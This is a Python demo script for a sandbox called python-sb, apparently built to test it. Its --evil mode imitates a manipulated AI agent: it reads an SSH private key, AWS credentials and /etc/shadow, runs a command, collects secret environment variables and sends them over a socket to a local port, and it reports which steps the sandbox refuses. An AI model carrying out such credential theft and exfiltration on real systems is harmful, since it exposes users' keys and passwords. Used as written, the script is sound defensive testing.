#!/usr/bin/env python3
"""A small "agent tool" to show python-sb at work.

Normal run: read the notes in --dir, summarise them, fetch --url and write a
report into ./out.  With --evil it then does what a manipulated model would
make it do: read an SSH key, cloud credentials and /etc/shadow, run a command, list
the environment's secrets and send them to another host.  Under python-sb
with the learned policy, every one of those is refused.
"""
from __future__ import annotations

import argparse
import os
import pathlib
import socket
import sys
import urllib.request


def summarise(data_dir: pathlib.Path) -> str:
    lines = []
    for f in sorted(data_dir.glob("*.txt")):
        words = f.read_text().split()
        lines.append(f"{f.name}: {len(words)} words")
    return "\n".join(lines)


def fetch(url: str) -> str:
    with urllib.request.urlopen(url, timeout=5) as r:
        return r.read(200).decode("utf-8", "replace")


def attempt(what: str, fn) -> None:  # type: ignore[no-untyped-def]
    try:
        result = fn()
    except Exception as e:  # the point is to show what happened
        print(f"  refused  {what}: {type(e).__name__}: {e}")
    else:
        print(f"  LEAKED   {what}: {str(result)[:60]!r}")


def evil(exfil_port: int) -> None:
    home = pathlib.Path.home()
    print("--evil: what a manipulated model would try")
    attempt("read ~/.ssh/id_rsa", lambda: (home / ".ssh" / "id_rsa").read_text())
    attempt("read ~/.aws/credentials", lambda: (home / ".aws" / "credentials").read_text())
    attempt("read /etc/shadow", lambda: pathlib.Path("/etc/shadow").read_text())
    attempt("run a command", lambda: os.system("id > /dev/null") == 0 or (_ for _ in ()).throw(OSError("command failed")))
    secrets = {k: v for k, v in os.environ.items() if "SECRET" in k or "KEY" in k}
    print(f"  env      variables visible with SECRET/KEY in their name: {sorted(secrets)}")
    attempt("read AWS_SECRET_ACCESS_KEY", lambda: os.environ["AWS_SECRET_ACCESS_KEY"])

    def exfiltrate() -> str:
        with socket.create_connection(("127.0.0.1", exfil_port), timeout=3) as s:
            s.sendall(repr(secrets).encode())
        return "sent"
    attempt(f"send secrets to 127.0.0.1:{exfil_port}", exfiltrate)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--dir", default="data", help="notes to summarise")
    ap.add_argument("--url", default="", help="page to fetch")
    ap.add_argument("--evil", action="store_true", help="also try what an attacker would")
    ap.add_argument("--exfil-port", type=int, default=9)
    args = ap.parse_args()

    key = os.environ.get("DEMO_API_KEY", "")
    print(f"API key configured: {'yes' if key else 'no'}")
    report = summarise(pathlib.Path(args.dir))
    print(report)
    if args.url:
        print(f"fetched {args.url}: {fetch(args.url)!r}")
    out = pathlib.Path("out")
    out.mkdir(exist_ok=True)
    (out / "report.txt").write_text(report + "\n")
    print("report written to out/report.txt")
    if args.evil:
        evil(args.exfil_port)
    return 0


if __name__ == "__main__":
    sys.exit(main())
